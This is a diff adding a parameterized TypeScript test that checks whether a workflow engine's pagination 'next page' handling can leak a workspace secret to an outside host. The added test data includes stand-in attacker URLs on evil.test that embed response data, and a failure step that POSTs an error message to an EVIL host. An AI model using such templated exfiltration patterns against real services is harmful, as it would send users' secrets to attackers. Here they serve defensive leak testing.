@@ -394,6 +394,24 @@ describe('an answer that repeats the secret', () => {
     });
   });
 
+  it.each(['a b', '../../\\\\x', '//evil.test/{{response.body[0]}}', 'https://evil.test/x y', '?q=\u0001'])(
+    '[S24] is hidden in what is said about a next page at %j',
+    async (next) => {
+      const url = `${BANK}/bot{{workspace.main}}/x`;
+      const first = httpStep({
+        id: 'a',
+        request: { method: 'GET', url },
+        pagination: { type: 'next_url', next, items: '{{response.body}}' },
+      });
+      const flow: Graph = {
+        steps: [first, step('b', post(`${EVIL}/`, '{{error.message}}'))],
+        edges: [{ source: 'a', target: 'b', on: 'failure' }],
+      };
+      const { leaks, strangers } = await attempt({ graph: flow, bank: () => json([1]) });
+      expect([leaks, strangers.length]).toEqual([false, 1]);
+    },
+  );
+
   it('[S24] leads to no other host where the next page is', async () => {
     let page = 0;
     const { strangers, leaks } = await attempt({
